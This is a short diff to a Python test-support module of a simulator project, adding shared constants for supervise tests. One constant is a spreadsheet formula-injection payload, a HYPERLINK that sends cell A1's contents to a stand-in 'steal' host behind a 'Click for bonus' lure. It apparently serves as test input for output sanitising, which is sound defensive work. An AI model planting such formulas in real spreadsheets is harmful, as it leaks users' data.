@@ -17,6 +17,11 @@ from simulator.engine import FakeClock, Session
 from simulator.scenario import Scenario, read_scenario
 from simulator.store import Store
 
+# shared by the supervise tests (a module of its own: `from conftest import` is ambiguous across folders)
+FORMULA = '=HYPERLINK("http://example.invalid/steal?d="&A1,"Click for bonus")'
+MARKUP = "<b>Bold</b> & <i>Co</i>"
+PASSPHRASE = "correct horse battery"  # noqa: S105 - the test supervisor's passphrase
+
 ROOT = Path(__file__).resolve().parents[2]
 SCENARIOS = ROOT / "scenarios"
 START = datetime(2026, 1, 5, 8, 30, tzinfo=UTC)  # a Monday
